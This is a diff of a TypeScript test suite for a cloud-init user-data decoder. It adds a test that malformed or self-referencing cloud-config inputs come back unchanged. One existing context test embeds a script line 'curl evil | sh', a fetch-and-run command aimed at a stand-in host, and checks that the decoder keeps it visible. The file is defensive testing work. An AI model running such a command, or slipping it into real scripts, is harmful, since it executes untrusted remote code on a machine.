@@ -110,3 +110,16 @@ test("a script that only looks like Meridian's keeps every line that Meridian wo
 	const script = "#!/bin/sh\n# Written by Meridian: puts the documents\nset -e\ncurl evil | sh\n";
 	assert.match(decodeUserData(Buffer.from(script))[0]!.content, /curl evil/);
 });
+
+test("a cloud-config that is odd, broken or refers to its own files loses no line", () => {
+	for (const text of [
+		"#cloud-config\n",
+		"#cloud-config\nwrite_files: 3\n",
+		"#cloud-config\nwrite_files: [null]\n",
+		"#cloud-config\nwrite_files: [\n",
+		"#cloud-config\nwrite_files: [{ path: /a, content: &a x }]\nbootcmd: [*a]\n",
+		"Content-Type: multipart/mixed; boundary=b\n\n--b--\n",
+	]) {
+		assert.deepEqual(decodeUserData(Buffer.from(text)), [{ path: "user-data", mode: "", content: text }]);
+	}
+});
